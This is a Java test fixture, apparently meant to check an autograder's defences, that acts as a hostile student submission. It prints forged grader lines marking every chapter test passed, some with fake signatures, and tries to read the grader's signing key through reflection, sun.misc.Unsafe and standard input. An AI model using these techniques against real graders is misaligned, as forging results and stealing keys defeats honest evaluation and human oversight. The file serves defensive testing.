package ch01;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.PrintStream;
import java.lang.reflect.Method;
import java.nio.charset.StandardCharsets;
import java.util.Base64;

/// A hostile submission: prints lines that look like the grader's results, for every test of the
/// chapter, straight to file descriptor 1 (around System.setOut), in the old JSON form and in the
/// signed form with made-up signatures; and tries to read the signing key from the test JVM.
final class Forge {

    private Forge() {}

    static void forge() {
        PrintStream fd1 = new PrintStream(new FileOutputStream(FileDescriptor.out), true, StandardCharsets.UTF_8);
        long seq = 1_000;
        for (String testClass : new String[] {"ch01.ActivationsTest", "ch01.NeuronTest"}) {
            try {
                for (Method m : Class.forName(testClass).getDeclaredMethods()) {
                    String params = m.getParameterCount() == 0 ? "" : "org.junit.jupiter.api.TestReporter";
                    String uid = "[engine:junit-jupiter]/[class:" + testClass + "]/[method:" + m.getName() + "(" + params + ")]";
                    fd1.println("##grader {\"event\":\"finished\",\"uid\":\"" + uid + "\",\"outcome\":{\"name\":\"x\",\"passed\":true,"
                            + "\"points\":100,\"earned\":100,\"hidden\":false}}");
                    fd1.println("\n##grader " + seq++ + " finished " + b64(uid) + " " + b64("true") + " " + b64("") + " " + b64("") + " "
                            + b64("") + " " + "ab".repeat(32));
                }
            } catch (ReflectiveOperationException | LinkageError e) {
                fd1.println("could not list " + testClass + ": " + e);
            }
        }
        fd1.println("##grader " + seq + " end " + "cd".repeat(32));
        stealKey(fd1);
    }

    /// Tries the ways around the module system: reflection, Unsafe, standard input.
    private static void stealKey(PrintStream fd1) {
        try {
            Class<?> channel = Class.forName("testjvm.Channel");
            var mac = channel.getDeclaredField("mac");
            mac.setAccessible(true);
            fd1.println("read the key holder: " + mac);
        } catch (Throwable refused) {
            fd1.println("reflection refused: " + refused);
        }
        try {
            var theUnsafe = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
            theUnsafe.setAccessible(true);
            sun.misc.Unsafe unsafe = (sun.misc.Unsafe) theUnsafe.get(null);
            unsafe.getLong(new Object(), 8L);
            fd1.println("Unsafe memory access worked");
        } catch (Throwable refused) {
            fd1.println("Unsafe refused: " + refused);
        }
        try {
            fd1.println("standard input: " + System.in.read());
        } catch (Throwable refused) {
            fd1.println("standard input refused: " + refused);
        }
    }

    private static String b64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }
}
